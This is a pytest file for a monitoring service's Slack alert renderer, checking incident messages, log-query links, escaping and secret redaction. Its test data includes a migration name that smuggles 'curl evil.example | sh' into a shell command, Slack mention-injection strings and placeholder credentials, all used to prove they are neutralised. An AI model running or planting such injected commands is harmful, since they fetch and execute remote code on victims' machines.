"""render: transitions in memory -> messages; hostile log text never becomes markup or a leak."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import quote, unquote

import pytest

from monitor.correlate.model import (
    Incident,
    IncidentKind,
    IncidentStatus,
    MigrationFailure,
    MigrationRecord,
    Reason,
    RevisionFacts,
    Transition,
    TransitionKind,
)
from monitor.messages import Action, Message
from monitor.notify.render import MAX_LINK_URL, render
from monitor.queries import logs_query
from monitor.redact import scrub
from monitor.safe import MAX_BLOCKS, escape, safe_text, truncate

T0 = datetime(2025, 12, 4, 21, 3, tzinfo=UTC)
CHANNEL = "#spector-alerts"

HOSTILE = (
    "MissingSessionTableError <!channel> <!here> <@U123> <https://evil.example|click> a&b "
    "```closed``` `tick` \x1b[31mred\x1b[0m \x07bell\x00 \ud800 "
    "postgresql://spector:hunter2@db.internal:5432/app token xoxb-1234-5678-abcdefSECRET "
    "Authorization: Bearer eyJhbGciSECRET PGPASSWORD=pgSECRET password=pwSECRET"
)
SECRETS = ("hunter2", "xoxb-1234", "abcdefSECRET", "eyJhbGciSECRET", "pgSECRET", "pwSECRET")


def incident(**changes: Any) -> Incident:
    base = Incident(
        id="spector.missing-session-table.1", service="spector", signal="missing-session-table",
        kind=IncidentKind.ERROR, severity="critical", status=IncidentStatus.OPEN,
        first_seen=T0, last_seen=T0 + timedelta(minutes=4), count=3,
        revisions={"spector-00042-wex": 3}, introduced_by="spector-00042-wex",
        suspect_migrations=["20251204205052_add_session_table"],
        sample="PrismaClientKnownRequestError: MissingSessionTableError: table Session missing",
    )
    return replace(base, **changes)


def transition(kind: TransitionKind, inc: Incident | None = None, **kw: Any) -> Transition:
    return Transition(kind=kind, incident=inc or incident(), seq=kw.pop("seq", 1),
                      at=kw.pop("at", T0 + timedelta(minutes=5)), reason="test", **kw)


def rendered(t: Transition, pattern: str | None = "MissingSessionTableError") -> list[Message]:
    return render(t, channel=CHANNEL, project="spector-prod", pattern=pattern)


def texts(blocks: list[dict[str, Any]]) -> list[str]:
    """Every text string inside the blocks, wherever it sits."""
    out: list[str] = []

    def walk(node: Any) -> None:
        if isinstance(node, dict):
            if isinstance(node.get("text"), str):
                out.append(node["text"])
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    walk(blocks)
    return out


def everything(messages: list[Message]) -> str:
    return json.dumps([m.to_json() for m in messages], ensure_ascii=False)


# --- each transition kind ---------------------------------------------------------------------

def test_opened_is_one_root_with_a_phone_summary() -> None:
    [m] = rendered(transition(TransitionKind.OPENED))
    assert m.action is Action.POST_ROOT and m.channel == CHANNEL
    assert m.key == "spector.missing-session-table.1#1.0"
    assert m.incident_id == "spector.missing-session-table.1"
    assert m.text == (":rotating_light: spector: MissingSessionTableError (missing-session-table)"
                      " — 3 errors since 21:03 UTC, introduced by spector-00042-wex")
    body = "\n".join(texts(m.blocks))
    for expected in ("OPEN", "spector", "critical", "3 errors", "2025-12-04 21:03 UTC",
                     "spector-00042-wex", "20251204205052_add_session_table",
                     "```PrismaClientKnownRequestError"):
        assert expected in body
    assert m.link_thread_of is None and not m.broadcast


def test_logs_explorer_link_carries_the_encoded_query() -> None:
    query = logs_query("spector", "MissingSessionTableError")
    assert query.startswith('resource.type="cloud_run_revision" AND '
                            'resource.labels.service_name="spector" AND ')
    assert 'textPayload=~"MissingSessionTableError"' in query
    [m] = rendered(transition(TransitionKind.OPENED))
    body = "\n".join(texts(m.blocks))
    url = ("https://console.cloud.google.com/logs/query;query=" + quote(query, safe="")
           + ";timeRange=2025-12-04T20%3A58%3A00Z%2F2025-12-04T21%3A13%3A00Z?project=spector-prod")
    assert f"<{url}|Logs Explorer>" in body


def test_a_long_pattern_searches_the_most_common_fields_and_keeps_the_link_whole() -> None:
    shipped = ("MissingSessionTableError|Prisma \\w+ table does not exist|"
               "MissingSessionStorageError|Prisma session storage is not ready")
    [m] = rendered(transition(TransitionKind.OPENED), pattern=shipped)
    body = "\n".join(texts(m.blocks))
    (url,) = re.findall(r"<(https://console\.cloud\.google\.com/logs/query[^|>]*)\|", body)
    assert len(url) <= MAX_LINK_URL
    query = unquote(url.split(";query=", 1)[1].split(";timeRange=", 1)[0])
    for field in ("textPayload", "jsonPayload.message", "jsonPayload.stack_trace",
                  "jsonPayload.err.type", "jsonPayload.err.stack"):  # pino's class and stack
        assert f"{field}=~{json.dumps(shipped)}" in query
    assert "severity" not in query  # a logged error is often DEFAULT: never filtered on it
    # a pattern too long for any field: the service's lines of the period, still a whole link
    [m] = rendered(transition(TransitionKind.OPENED), pattern="x" * 3000)
    (url,) = re.findall(r"<(https://console\.cloud\.google\.com/logs/query[^|>]*)\|",
                        "\n".join(texts(m.blocks)))
    assert "textPayload" not in unquote(url) and "spector" in unquote(url)


def test_logs_query_quotes_and_revision() -> None:
    q = logs_query("spector", r'say "hi"\d', revision="spector-00042-wex")
    assert 'resource.labels.revision_name="spector-00042-wex"' in q
    assert r'textPayload=~"say \"hi\"\\d"' in q
    assert " and " not in q  # lowercase `and` would be a search term
    assert logs_query("spector", None).count("AND") == 1


def test_regressed_links_the_earlier_thread() -> None:
    inc = incident(id="spector.missing-session-table.2",
                   regression_of="spector.missing-session-table.1")
    [m] = rendered(transition(TransitionKind.REGRESSED, inc))
    assert m.action is Action.POST_ROOT
    assert m.link_thread_of == "spector.missing-session-table.1"
    assert "regression of spector.missing-session-table.1" in m.text
    assert "REGRESSION" in "\n".join(texts(m.blocks))


def test_updated_replies_with_changes_and_updates_the_root() -> None:
    inc = incident(count=42, revisions={"spector-00042-wex": 40, "spector-00043-abc": 2})
    t = transition(TransitionKind.UPDATED, inc, seq=4,
                   changes=("count grew from 3 to 42", "revision spector-00043-abc is hit too"))
    reply, root = rendered(t)
    assert (reply.action, root.action) == (Action.REPLY, Action.UPDATE_ROOT)
    assert (reply.key, root.key) == ("spector.missing-session-table.1#4.0",
                                     "spector.missing-session-table.1#4.1")
    assert "count grew from 3 to 42" in reply.text and "42 errors" in reply.text
    assert "revision spector-00043-abc is hit too" in reply.text
    assert not reply.broadcast
    assert "42 errors" in "\n".join(texts(root.blocks))
    assert "spector-00043-abc" in "\n".join(texts(root.blocks))


def test_quiet_without_traffic_keeps_it_open() -> None:
    t = transition(TransitionKind.QUIET_NO_TRAFFIC, at=T0 + timedelta(minutes=25))
    t.incident.reason = Reason.NO_TRAFFIC
    [m] = rendered(t)
    assert m.action is Action.REPLY
    assert "Quiet since 2025-12-04 21:07 UTC" in m.text
    assert "no successful request was served since: keeping it open" in m.text
    assert "`no_traffic`" in m.text


@pytest.mark.parametrize(("reason", "words"), [
    (Reason.ONLY_STATIC_ASSETS, "but only static assets were served: keeping it open"),
    (Reason.OTHER_ROUTES_ONLY, "but no request succeeded on the routes that failed"),
    (Reason.OTHER_INSTANCES_ONLY, "but only instances that never failed served"),
])
def test_a_hold_says_in_one_line_what_is_missing(reason: Reason, words: str) -> None:
    t = transition(TransitionKind.QUIET_NO_TRAFFIC, at=T0 + timedelta(minutes=25))
    t.incident.reason = reason
    [m] = rendered(t)
    assert words in m.text and f"`{reason.value}`" in m.text
    assert "\n" not in m.text  # one line


def resolved(resolved_by: str | None) -> Transition:
    inc = incident(status=IncidentStatus.RESOLVED, resolved_at=T0 + timedelta(hours=1),
                   resolved_by=resolved_by, last_seen=T0 + timedelta(minutes=42), count=57,
                   resolution_note="No match for 15m with 120 successful requests served.")
    fix = RevisionFacts(
        service="spector", name="spector-00044-fix", deployed_at=T0 + timedelta(minutes=40),
        migrations=[
            MigrationRecord("20251204205052_add_session_table", "rolled_back", None, T0),
            MigrationRecord("20251213003742_fix_session_table_uppercase", "applied", None, T0),
        ])
    return transition(TransitionKind.RESOLVED, inc, seq=9, at=T0 + timedelta(hours=1),
                      revision_facts=(fix,))


def test_resolved_broadcasts_the_evidence() -> None:
    reply, root = rendered(resolved("spector-00044-fix"))
    assert reply.action is Action.REPLY and reply.broadcast
    for expected in ("spector-00044-fix", "20251213003742_fix_session_table_uppercase` applied",
                     "20251204205052_add_session_table` marked as rolled back",
                     "Last error at 2025-12-04 21:45 UTC",
                     "No match for 15m with 120 successful requests served.",
                     "57 errors over 42m", "2025-12-04 21:03 UTC → 2025-12-04 21:45 UTC"):
        assert expected in reply.text
    assert root.action is Action.UPDATE_ROOT and not root.broadcast
    assert ":white_check_mark: RESOLVED" in "\n".join(texts(root.blocks))
    assert root.text.startswith(":white_check_mark: RESOLVED")
    # the write-up's summary and checklist ride along, for the post-mortem
    write_up = texts(reply.blocks)[-1]
    assert write_up != texts(reply.blocks)[0]
    assert "spector-00044-fix" in write_up and len(write_up) <= 3000


def test_resolved_without_a_deploy_says_so() -> None:
    reply, _ = rendered(resolved(None))
    assert "No deploy explains it" in reply.text


def migration_incident(name: str | None, code: str) -> Incident:
    return incident(kind=IncidentKind.MIGRATION, signal="prisma-migrate", sample="",
                    migration=MigrationFailure(name, "failed", code, "Error: P3018 ..."))


def test_p3009_names_the_fix() -> None:
    [m] = rendered(transition(TransitionKind.OPENED,
                              migration_incident("20251204205052_add_session_table", "P3009")))
    body = "\n".join(texts(m.blocks))
    assert 'npx prisma migrate resolve --rolled-back "20251204205052_add_session_table"' in body
    assert "redeploy" in body
    assert "migration 20251204205052_add_session_table failed (P3009)" in m.text


def test_p1001_points_at_the_database() -> None:
    [m] = rendered(transition(TransitionKind.OPENED, migration_incident(None, "P1001")))
    assert "DATABASE_URL" in "\n".join(texts(m.blocks))


def test_a_hostile_migration_name_never_reaches_a_shell_command() -> None:
    inc = migration_incident('x"; curl evil.example | sh; "', "P3018")
    [m] = rendered(transition(TransitionKind.OPENED, inc))
    body = "\n".join(texts(m.blocks))
    assert "curl evil.example | sh" not in body.split("*Fix:*")[1]


# --- hostile log text -------------------------------------------------------------------------

def hostile_messages() -> list[Message]:
    inc = incident(sample=HOSTILE, introduced_by="rev<!here>", revisions={"<@U999>": 1},
                   suspect_migrations=["m`x`<!channel>"])
    t_open = transition(TransitionKind.OPENED, inc)
    t_upd = transition(TransitionKind.UPDATED, inc, changes=(HOSTILE,))
    t_res = resolved("spector-00044-fix")
    hostile_res = replace(t_res.incident, resolution_note=HOSTILE, sample=HOSTILE)
    t_res = replace(t_res, incident=hostile_res)
    return [m for t in (t_open, t_upd, t_res) for m in rendered(t)]


@pytest.mark.parametrize("needle", ["<!channel>", "<!here>", "<@U", "<https://evil", "\x1b",
                                    "\x07", "\x00", "\ud800", *SECRETS])
def test_hostile_text_is_escaped_and_scrubbed_everywhere(needle: str) -> None:
    for m in hostile_messages():
        for text in [m.text, *texts(m.blocks)]:
            assert needle not in text, (m.key, text)


def test_hostile_text_is_shown_escaped() -> None:
    [m] = rendered(transition(TransitionKind.OPENED, incident(sample=HOSTILE)))
    body = "\n".join(texts(m.blocks))
    assert "&lt;!channel&gt; &lt;!here&gt; &lt;@U123&gt; &lt;https://evil.example|click&gt;" in body
    assert "a&amp;b" in body
    assert "postgresql://spector:***@db.internal" in body


def test_backticks_cannot_close_the_code_block() -> None:
    [m] = rendered(transition(TransitionKind.OPENED, incident(sample="a ``` *bold* ``` `b`")))
    [sample] = [t for t in texts(m.blocks) if t.startswith("*Sample:*")]
    assert sample.count("`") == 6 and sample.endswith("```")


def test_a_200kb_line_is_cut_to_the_limits() -> None:
    huge = "MissingSessionTableError " + "<x>&" * 50_000
    msgs = hostile_messages() + rendered(transition(TransitionKind.OPENED, incident(sample=huge)))
    for m in msgs:
        assert len(m.text) <= 3000
        assert len(m.blocks) <= MAX_BLOCKS
        for block in m.blocks:
            if block["type"] == "section":
                assert len(block["text"]["text"]) <= 3000
                assert all(len(f["text"]) <= 2000 for f in block.get("fields", []))
            if block["type"] == "header":
                assert len(block["text"]["text"]) <= 150
    [sample] = [t for t in texts(msgs[-1].blocks) if t.startswith("*Sample:*")]
    assert len(sample) <= len("*Sample:*\n``````") + 500
    assert "&l…" not in sample and "&…" not in sample  # never cut inside an entity


def test_many_revisions_and_changes_stay_within_limits() -> None:
    inc = incident(revisions={f"spector-{i:05d}-abc": i for i in range(1, 500)},
                   suspect_migrations=[f"{i:014d}_m" for i in range(300)])
    t = transition(TransitionKind.UPDATED, inc, changes=tuple(f"change {i}" for i in range(200)))
    for m in rendered(t):
        assert len(m.blocks) <= MAX_BLOCKS
        assert all(len(t) <= 3000 for t in texts(m.blocks))
        assert "more" in "\n".join(texts(m.blocks))


# --- the helpers other modules reuse ----------------------------------------------------------

@pytest.mark.parametrize(("raw", "expected"), [
    ("postgresql://user:pw@host/db", "postgresql://user:***@host/db"),
    ("xoxb-123-456-abc", "xoxb-***"),
    ("xoxp-1-2", "xoxp-***"),
    ("Authorization: Bearer abc.def-ghi", "Authorization: Bearer ***"),
    ("PGPASSWORD=s3cret ok", "PGPASSWORD=*** ok"),
    ('{"password": "s3cret"}', '{"password": "***"}'),
    ("https://hooks.slack.com/services/T0/B0/XYZ", "https://hooks.slack.com/services/***"),
    ("nothing to hide", "nothing to hide"),
])
def test_scrub(raw: str, expected: str) -> None:
    assert scrub(raw) == expected


def test_escape_and_truncate() -> None:
    assert escape("<a & b>") == "&lt;a &amp; b&gt;"
    assert truncate("abcdef", 4) == "abc…"
    assert truncate("ab&amp;cd", 5) == "ab…"
    assert truncate("short", 10) == "short"
    assert safe_text("a\nb\x1b[2Jc", 100, one_line=True) == "a bc"


def test_root_links_the_cloud_run_revision_and_shows_the_rate():
    from monitor.correlate.model import RevisionFacts
    from monitor.notify.render import root_blocks

    incident = Incident(
        id="spector:missing-session-table:20251204T210300Z", service="spector",
        signal="missing-session-table", kind=IncidentKind.ERROR, severity="critical",
        status=IncidentStatus.OPEN, first_seen=T0, last_seen=T0 + timedelta(minutes=10),
        count=30, introduced_by="spector-00042-wex")
    facts = [RevisionFacts(service="spector", name="spector-00042-wex",
                           location="us-central1")]
    text = json.dumps(root_blocks(incident, project="spector-prod", pattern=None, at=T0,
                                  facts=facts))
    assert ("https://console.cloud.google.com/run/detail/us-central1/spector/revisions"
            "?project=spector-prod|Cloud Run revision spector-00042-wex") in text
    assert "30 errors (3.0/min)" in text
    hostile = [RevisionFacts(service="spector", name="spector-00042-wex",
                             location="x|<!channel>")]
    text = json.dumps(root_blocks(incident, project="spector-prod", pattern=None, at=T0,
                                  facts=hostile))
    assert "<!channel>" not in text  # not a region: no console link is made of it
    assert "console.cloud.google.com/run/detail" not in text
